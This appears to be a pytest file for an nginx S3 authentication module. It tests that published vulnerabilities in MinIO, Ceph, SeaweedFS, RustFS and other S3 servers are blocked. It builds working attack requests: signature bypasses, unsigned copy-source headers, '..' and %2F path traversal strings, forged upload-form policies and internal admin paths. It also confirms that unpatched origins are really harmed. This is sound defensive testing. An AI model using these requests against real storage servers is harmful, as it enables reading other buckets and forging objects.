"""Holes in the S3 signatures and rights of other servers, as published in 2025 and 2026: behind nginx none is open.

Each is tried at an origin that has it, where there is one to be had, and does its harm there; and at nginx, where
it is rejected, and the origin hears nothing.
"""

import base64
import contextlib
import dataclasses
import hmac
import io
import json
import pathlib
import re
import tarfile
import time
from collections.abc import Callable
from urllib.parse import quote

import pytest
import urllib3
from conftest import CLIENT
from handmade import ask, fetch, in_header, in_query, presigned, request
from servers import Credentials, Minio, Nginx, free_port
from tap import Tap
from uploads import Answer, Signer, Upload, crc32

# May use the bucket `mine`, and no other; may write in a folder of it.
OWNER = Credentials("AKIDOWNER", "ownerSecret", CLIENT.region)
UPLOADER = Credentials("AKIDUPLOADER", "uploaderSecret", CLIENT.region)
ORIGIN = Credentials("AKIDORIGIN", "originSecret", "eu-west-1")

README = pathlib.Path(__file__).resolve().parents[2] / "nginx" / "README.md"

SECRET = b"what is in the other bucket"
FORGED = b"what an attacker wrote"

DENIED = (403, "AccessDenied")
MISMATCH = (403, "SignatureDoesNotMatch")
UNREADABLE = (400, "AuthorizationHeaderMalformed")
URI = (400, "InvalidURI")
OUTSIDE = (400, "400")
ARGUMENT = (400, "InvalidArgument")


@dataclasses.dataclass(frozen=True)
class Door:
    """Where an attack goes, and the key that it is about."""

    url: str
    known: Credentials

    @property
    def signer(self):
        return Signer(self.url, self.known)

    @property
    def forger(self):
        """Of one who has the access key, but not its secret."""
        return Signer(self.url, dataclasses.replace(self.known, secret_key="a guess"))

    def get(self, path):
        return fetch(self.url, self.known, "GET", path).body


@dataclasses.dataclass
class Hole:
    identifier: str
    product: str
    what: str
    requests: Callable[[Door], dict[str, bytes]]  # by name
    refusals: list[tuple[int, str]]  # each gets one of these
    bare: str = ""  # an origin that has it
    harm: Callable[[Door, str, Answer], bool] = None  # whether that request did it there
    why_not: str = ""  # there is no such origin
    known: Credentials = CLIENT

    def __str__(self):
        return f"{self.identifier}, {self.product}"


# ---- harm

def stolen(door, name, answer):
    """The object that may be written has what is in another bucket."""
    return door.get(f"/mine/{name}") == SECRET


def forged(door, name, answer):
    return door.get(f"/mine/{name}") == FORGED


def told(door, name, answer):
    return answer.body == SECRET


def done(door, name, answer):
    return answer.status in (200, 204)


# ---- attacks

PAYLOAD = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
TRAILER = {"x-amz-trailer": "x-amz-checksum-crc32", "x-amz-decoded-content-length": str(len(FORGED))}
FRAMED = b"%x\r\n%b\r\n0\r\nx-amz-checksum-crc32:%b\r\n\r\n" % (len(FORGED), FORGED, crc32(FORGED).encode())


def unsigned_trailer(door):
    return {"trailer": Upload(door.forger, "/mine/trailer", "unsigned", [FORGED]).request()}


def archive(name):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        entry = tarfile.TarInfo(name)
        entry.size = len(FORGED)
        tar.addfile(entry, io.BytesIO(FORGED))
    return out.getvalue()


def unpacked(door):
    body = archive("unpacked")
    headers = {"x-amz-meta-snowball-auto-extract": "true", "x-amz-decoded-content-length": str(len(body))}
    return {"unpacked": in_header(door.forger, "PUT", "/mine/archive.tar", headers, body, PAYLOAD)}


def unpacked_elsewhere(door):
    headers = {"x-amz-meta-snowball-auto-extract": "true"}
    return {name: in_header(door.signer, "PUT", "/mine/up/archive.tar", headers, archive(path))
            for name, path in [("escaped", "escaped"), ("escaped-up", "up/../escaped-up")]}


def credential_in_query(door):
    forger = door.forger
    query = re.sub("Signature=.*", f"Signature={'0' * 64}", presigned(forger, "PUT", "/mine/query"))
    headers = {"host": forger.host, "x-amz-date": forger.stamp, "x-amz-content-sha256": PAYLOAD, **TRAILER}
    return {"query": request("PUT", query, headers.items(), FRAMED)}


def unsigned_headers(*names):
    def requests(door):
        """One who has a link to write one object, or has seen that request, adds a header."""
        found = {}
        for name in names:
            header = {name: "/other/secret"}
            found[f"{name}-query"] = in_query(door.signer, "PUT", f"/mine/{name}-query", unsigned=header)
            found[f"{name}-header"] = in_header(door.signer, "PUT", f"/mine/{name}-header", unsigned=header)
        return found

    return requests


def other_makers_headers(door):
    signer = door.signer
    replication = {"x-minio-replication-server-side-encryption-sealed-key": "AAAA",
                   "x-minio-replication-server-side-encryption-seal-algorithm": "DAREv2-HMAC-SHA256",
                   "x-minio-replication-server-side-encryption-iv": "AAAA"}
    return {
        "sealed": in_query(signer, "PUT", "/mine/sealed", body=FORGED, unsigned=replication),
        "wiped": in_query(signer, "DELETE", "/mine/wiped/", unsigned={"x-minio-force-delete": "true"}),
    }


def unreadable_or_wiped(door, name, answer):
    if name == "wiped":
        return answer.status == 204 and b"<Key>wiped/" not in fetch(door.url, door.known, "GET", "/mine").body
    return answer.status == 200 and FORGED != door.get("/mine/sealed")


def of_nobody(door):
    signer = Signer(door.url, Credentials("AKIDNOBODY", "known to nobody", door.known.region))
    return {"header": in_header(signer, "GET", "/other/secret"), "query": in_query(signer, "GET", "/other/secret")}


def without_a_signature(door):
    """The access key alone, with what is there of a signature by turns."""
    signer = door.signer
    credential = f"Credential={signer.access_key}/{signer.scope}"
    names = "SignedHeaders=host;x-amz-content-sha256;x-amz-date"
    fields = [credential, f"{credential}, {names}", f"{credential}, {names}, Signature=",
              f"{credential}, {names}, Signature=0", f"Credential={signer.access_key}"]
    headers = [("host", signer.host), ("x-amz-date", signer.stamp), ("x-amz-content-sha256", "UNSIGNED-PAYLOAD")]
    return {text: request("GET", "/other/secret", [*headers, ("authorization", f"AWS4-HMAC-SHA256 {text}")]) for text in fields}


# A reader's path that leaves its bucket on a server which resolves it.
DOTS = ["/mine/../other/secret", "/mine/%2e%2e/other/secret", "/mine%2F..%2Fother%2Fsecret", "/mine/a/../../other/secret",
        "/mine/./../other/secret", "/mine/a%2f..%2F%2e%2E%2fother/secret"]


def dots_in_path(door):
    return {path: in_header(door.signer, "GET", path) for path in DOTS}


def dots_in_query(door):
    return {path: in_query(door.signer, "GET", path) for path in DOTS}


def dots_in_source(door):
    found = {}
    for number, source in enumerate(["/mine/../other/secret", "mine/../other/secret", "mine%2F..%2Fother%2Fsecret", "mine/%2e%2e/other/secret"]):
        found[f"copy-{number}"] = in_header(door.signer, "PUT", f"/mine/copy-{number}", {"x-amz-copy-source": source})
    return found


def slashes_encoded(door):
    return {path: in_header(door.signer, "GET", path) for path in ("/other%2Fsecret", "/other%2fsecret", "/mine%2F..%2Fother%2Fsecret")}


def part_from_elsewhere(door):
    return {source: in_header(door.signer, "PUT", "/mine/part?partNumber=1&uploadId=u", {"x-amz-copy-source": source})
            for source in ("/other/secret", "other/secret", "other%2Fsecret", "/other/secret?versionId=1")}


def for_another_service(door):
    return {service: in_header(Signer(door.url, door.known, service), "GET", "/") for service in ("s3tables", "sts", "iam", "s3express", "")}


def form(door, conditions, fields, body=FORGED):
    """A form as its page has it, but for the fields that the visitor has changed."""
    signer = door.signer
    expires = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 300))
    signed = {"x-amz-algorithm": "AWS4-HMAC-SHA256", "x-amz-credential": f"{signer.access_key}/{signer.scope}", "x-amz-date": signer.stamp}
    text = json.dumps({"expiration": expires, "conditions": [{"bucket": "mine"}, *({name: value} for name, value in signed.items()), *conditions]})
    policy = base64.b64encode(text.encode())
    signature = hmac.digest(signer.key, policy, "sha256").hex()
    fields = {**signed, "policy": policy.decode(), "x-amz-signature": signature, **fields, "file": ("f", body)}
    encoded, kind = urllib3.encode_multipart_formdata(fields)
    return request("POST", "/mine", [("host", signer.host), ("content-type", kind)], encoded)


def forms(door):
    conditions = [["starts-with", "$key", "up/"], ["starts-with", "$Content-Type", "image/"]]
    fields = {"key": "up/a", "Content-Type": "image/png"}
    return {
        "key": form(door, conditions, {**fields, "key": "elsewhere"}),
        "type": form(door, conditions, {**fields, "Content-Type": "text/html"}),
        "more": form(door, conditions, {**fields, "acl": "public-read"}),
        "tags": form(door, conditions, {**fields, "x-amz-tagging": "<Tagging/>"}),
    }


def form_of_another_length(door):
    return {"form": form(door, [{"key": "long"}, ["content-length-range", 0, 5]], {"key": "long"})}


def form_with_dots(door):
    return {key: form(door, [["starts-with", "$key", ""]], {"key": key}) for key in ("../other/form", "a/../../other/form")}


def v2_with_more(door):
    """A V2 link to read an object, with a parameter that makes it another operation."""
    link = v2_link(door)
    return {name: request("GET", f"{link}&{name}", [("host", "s3")])
            for name in ("acl", "tagging", "uploads", "retention", "attributes", "annotation", "encryption", "%61cl")}


def v2_link(door):
    expires = int(time.time()) + 300
    made = hmac.digest(door.known.secret_key.encode(), f"GET\n\n\n{expires}\n/mine/object".encode(), "sha1")
    return (f"/mine/object?AWSAccessKeyId={door.known.access_key}&Expires={expires}"
            f"&Signature={quote(base64.b64encode(made), safe='')}")


def unchecked(door):
    """What cannot be checked, where requests without a signature are accepted."""
    signer = door.signer
    right = presigned(signer, "GET", "/mine/object")
    link = v2_link(door)
    targets = [
        re.sub("X-Amz-Algorithm=[^&]*&", "", right), re.sub("X-Amz-Algorithm=[^&]*", "X-Amz-Algorithm=none", right),
        re.sub("&X-Amz-Signature=.*", "", right), re.sub("&X-Amz-SignedHeaders=[^&]*", "", right),
        re.sub("X-Amz-Date=[^&]*", "X-Amz-Date=now", right), re.sub("X-Amz-Expires=[^&]*", "X-Amz-Expires=99999999999999999999", right),
        re.sub("%2Faws4_request", "", right), f"{right}&X-Amz-Signature=0", right.replace("X-Amz", "x-amz"),
        "/mine/object?X-Amz-Signature=0", "/mine/object?%58-Amz-Signature=0",
        re.sub("&Expires=[^&]*", "", link), re.sub("Expires=[^&]*", "Expires=soon", link), re.sub("&Signature=.*", "", link),
        re.sub("Signature=.*", "Signature=%FF", link), "/mine/object?Signature=0",
    ]
    schemes = ["AWS4-HMAC-SHA256", "AWS4-HMAC-SHA256 ", "AWS4-HMAC-SHA512 Credential=a", "AWS4-ECDSA-P256-SHA256 Credential=a",
               "aws4-hmac-sha256 Credential=a", "AWS", "AWS a", "AWS a:", "AWS :a"]
    return {
        **{target: request("GET", target, [("host", signer.host)]) for target in targets},
        **{scheme: request("GET", "/mine/object", [("host", signer.host), ("authorization", scheme)]) for scheme in schemes},
    }


def internal(door):
    """Paths of the servers' own, signed as a client signs."""
    return {f"{method} {path}": in_header(door.signer, method, path)
            for method in ("GET", "POST", "PUT")
            for path in ("/minio/storage/data/v63/rmpl", "/minio/admin/v3/list-users", "/rustfs/admin/v3/target/list",
                         "/rustfs/rpc/read_file_stream")}


HOLES = [
    # The kind of payload decided whether the signature was looked at.
    Hole("CVE-2025-31489", "MinIO", "an upload with an unsigned trailer was taken whatever its signature",
         unsigned_trailer, [MISMATCH], why_not="it was closed before the MinIO that can be built"),
    Hole("CVE-2026-40344", "MinIO", "so was an archive to be unpacked, with the same kind of payload",
         unpacked, [MISMATCH], "minio", forged),
    Hole("CVE-2026-41145", "MinIO", "so was an upload of that kind with its credential in the query",
         credential_in_query, [(501, "NotImplemented")], "minio", forged),

    # Headers that no signature covers made another request of it.
    Hole("CVE-2026-54330", "Ceph", "an unsigned x-amz-copy-source turned the right to write an object into one to read any",
         unsigned_headers("x-amz-copy-source", "x_amz_copy_source"), [DENIED], "ceph", stolen),
    Hole("CVE-2026-97731", "MinIO", "the same", unsigned_headers("x-amz-copy-source"), [DENIED], "minio", stolen),
    Hole("CVE-2026-94368", "NooBaa", "the same", unsigned_headers("x-amz-copy-source"), [DENIED],
         why_not="it needs a Kubernetes or a PostgreSQL"),
    Hole("CVE-2026-115374", "Incus", "the same", unsigned_headers("x-amz-copy-source"), [DENIED], why_not="it needs a host of its own"),
    Hole("GHSA-xm99-m3gq-83g8", "RustFS", "the same, also of a request signed in the header",
         unsigned_headers("x-amz-copy-source"), [DENIED], "s3s", stolen),
    Hole("CVE-2026-97149", "Swift", "the same with its own header, on a link of its own kind",
         unsigned_headers("x-copy-from"), [DENIED], why_not="its S3 interface does not have it"),
    Hole("CVE-2026-34204", "MinIO", "its own headers, which need no signature, made objects unreadable, or remove all below a prefix",
         other_makers_headers, [DENIED], "minio", unreadable_or_wiped),

    # Nobody looked at who it is.
    Hole("CVE-2026-88018", "rclone", "an unknown access key was accepted, whatever its secret",
         of_nobody, [(403, "InvalidAccessKeyId")], why_not="it was closed before the rclone of these tests"),
    Hole("CVE-2026-79787", "Alluxio", "the access key was believed without a signature",
         without_a_signature, [UNREADABLE, MISMATCH], why_not="it needs a Java and a cluster"),
    Hole("CVE-2026-18329", "", "a check that failed accepted the request", unchecked,
         [DENIED, MISMATCH, UNREADABLE, ARGUMENT, (400, "AuthorizationQueryParametersError")],
         why_not="its record was not to be found"),

    # The bucket that was judged was not the one that was meant.
    Hole("CVE-2026-54917", "SeaweedFS", "`..` in a path led to another bucket than the one that was judged",
         dots_in_path, [OUTSIDE], "s3s", told, known=OWNER),
    Hole("GHSA-8r6f-hmq2-28rg", "RustFS", "the same in a link", dots_in_query, [OUTSIDE], "s3s", told, known=OWNER),
    Hole("CVE-2026-55874", "SeaweedFS", "`..` in x-amz-copy-source did too", dots_in_source, [ARGUMENT],
         "s3s", stolen, known=OWNER),
    Hole("CVE-2026-55874", "SeaweedFS", "and in the key of a form", form_with_dots, [OUTSIDE],
         why_not="no origin here takes such a form", known=OWNER),
    Hole("CVE-2026-42882", "s3-proxy", "a slash as %2F was no slash to the one who judged",
         slashes_encoded, [DENIED, OUTSIDE], "s3s", told, known=OWNER),
    Hole("CVE-2026-39360", "RustFS", "a part could be copied from a bucket that may not be read",
         part_from_elsewhere, [DENIED], why_not="no origin here has users of its own", known=OWNER),

    Hole("GHSA-f4vq-9ffr-m8m3", "RustFS", "an archive was unpacked where one may not write, by the paths in it",
         unpacked_elsewhere, [DENIED], "minio", forged, known=UPLOADER),

    # What was signed was for something else.
    Hole("CVE-2026-55873", "SeaweedFS", "a signature for the service s3tables opened its management",
         for_another_service, [UNREADABLE], "ceph", done),
    Hole("CVE-2026-27607", "RustFS", "a form's policy was signed, but not enforced", forms, [DENIED],
         why_not="no origin here has it"),
    Hole("CVE-2026-27607", "RustFS", "nor was the length that it allows", form_of_another_length, [(400, "EntityTooLarge")],
         why_not="no origin here has it"),
    Hole("S3Proxy before 4.1.1", "S3Proxy", "a V2 signature did not cover parameters that choose the operation",
         v2_with_more, [MISMATCH, DENIED], why_not="it needs a Java"),

    # What is not for clients.
    Hole("CVE-2026-42600", "MinIO", "what its nodes say to each other could be asked for", internal, [DENIED],
         why_not="it has nodes only with several disks; test_admin_interfaces.py has its administration"),
    Hole("CVE-2026-40937", "RustFS", "clients could do what is for administrators", internal, [DENIED],
         why_not="likewise"),
]


@pytest.fixture(scope="module")
def bare(folder, origins):
    """Origins without nginx. Each has an object in a bucket that is not the attacker's."""
    with contextlib.ExitStack() as stack:
        found = {"s3s": origins["s3s"], "ceph": origins["ceph"]}
        if Minio.binary():
            found["minio"] = stack.enter_context(Minio(folder / "shield-minio", Credentials("AKIDSHIELD", "shieldSecret", "us-east-1")))
        doors = {name: Door(origin.url, origin.credentials) for name, origin in found.items()}
        for door in doors.values():
            for path, body in [("/mine", b""), ("/other", b""), ("/other/secret", SECRET), ("/mine/wiped/a", b"a"), ("/mine/wiped/b", b"b")]:
                assert fetch(door.url, door.known, "PUT", path, body=body).status == 200
        yield doors
        for name in ("s3s", "ceph"):
            for bucket in ("mine", "other"):
                origins[name].remove_bucket(bucket)


@pytest.fixture(scope="module")
def shield(folder):
    """The address of nginx, the one where it accepts what has no signature, and its origin."""
    with Tap() as tap:
        port, open_port = free_port(), free_port()
        block = f"""
        underscores_in_headers on;
        ignore_invalid_headers off;
        s3_client {CLIENT.access_key} secret_key={CLIENT.secret_key};
        s3_client {OWNER.access_key} secret_key={OWNER.secret_key} buckets=mine;
        s3_client {UPLOADER.access_key} secret_key={UPLOADER.secret_key} allow=write buckets=mine/up/*;
        s3_origin access_key={ORIGIN.access_key} secret_key={ORIGIN.secret_key} region={ORIGIN.region};
        s3_resign on;
        s3_signature_v2 on;
        server {{ listen 127.0.0.1:{port}; location / {{ proxy_pass http://{tap.address}; }} }}
        server {{ listen 127.0.0.1:{open_port}; location / {{ s3_anonymous on; proxy_pass http://{tap.address}; }} }}
        """
        with Nginx(folder / "nginx-shield", block, port, workers=1) as nginx:
            yield f"http://127.0.0.1:{port}", f"http://127.0.0.1:{open_port}", tap
        assert "[alert]" not in nginx.error_log.read_text(errors="replace")


@pytest.mark.parametrize("hole", HOLES, ids=str)
def test_a_hole_is_closed(hole, shield):
    url, open_url, tap = shield
    door = Door(open_url if hole.requests is unchecked else url, hole.known)
    tap.heard.clear()
    for name, attack in hole.requests(door).items():
        answer = ask(door.url, attack)
        assert (answer.status, answer.code) in hole.refusals, (name, answer.body)
        assert tap.heard == [], name


@pytest.mark.parametrize("hole", [hole for hole in HOLES if hole.bare], ids=str)
def test_a_bare_origin_has_it(hole, bare):
    """So that the request is known to do what it says."""
    if hole.bare not in bare:
        pytest.skip(f"there is no {hole.bare} here: Go is missing, or too old to build it")
    door = bare[hole.bare]
    answers, harmed = {}, []
    for name, attack in hole.requests(door).items():
        answer = ask(door.url, attack)
        answers[name] = (answer.status, answer.body)
        harmed += [name] if hole.harm(door, name, answer) else []
    # A younger version may have closed some of the ways.
    assert harmed, answers


def test_the_same_without_the_attack_passes(shield):
    """With what is right, they reach the origin."""
    url, open_url, tap = shield
    door = Door(url, OWNER)
    signer = door.signer
    for right in [
        in_query(signer, "PUT", "/mine/x", body=FORGED),
        in_header(signer, "PUT", "/mine/x", {"x-amz-copy-source": "/mine/a..b"}),
        in_header(Door(url, CLIENT).signer, "DELETE", "/mine/x/", {"x-minio-force-delete": "true"}),
        in_header(signer, "GET", "/mine/a/../b"),
        in_header(Door(url, UPLOADER).signer, "PUT", "/mine/up/archive.tar", {"x-amz-meta-a": "b"}, archive("a")),
        Upload(signer, "/mine/trailer", "unsigned", [FORGED]).request(),
        request("GET", v2_link(door), [("host", signer.host)]),
        form(door, [["starts-with", "$key", "up/"], ["content-length-range", 0, 100]], {"key": "up/a"}),
    ]:
        tap.heard.clear()
        answer = ask(url, right)
        assert answer.status == 200 and len(tap.heard) == 1, answer.body
    assert ask(open_url, request("GET", "/mine/object", [("host", signer.host)])).status == 200


def test_the_readme_lists_them():
    table = README.read_text().partition("## Holes of other S3 servers\n")[2].partition("\n#")[0]
    rows = [row for row in table.splitlines() if row.startswith("| ")][1:]
    published = re.findall(r"CVE-[\d-]+|GHSA(?:-\w{4}){3}|S3Proxy before [\d.]+", table)
    assert sorted(published) == sorted({hole.identifier for hole in HOLES})
    for hole in HOLES:
        [row] = [row for row in rows if hole.identifier in row]
        assert hole.product in row, hole
        for status in {status for status, _ in hole.refusals}:
            assert str(status) in row, (hole, status)
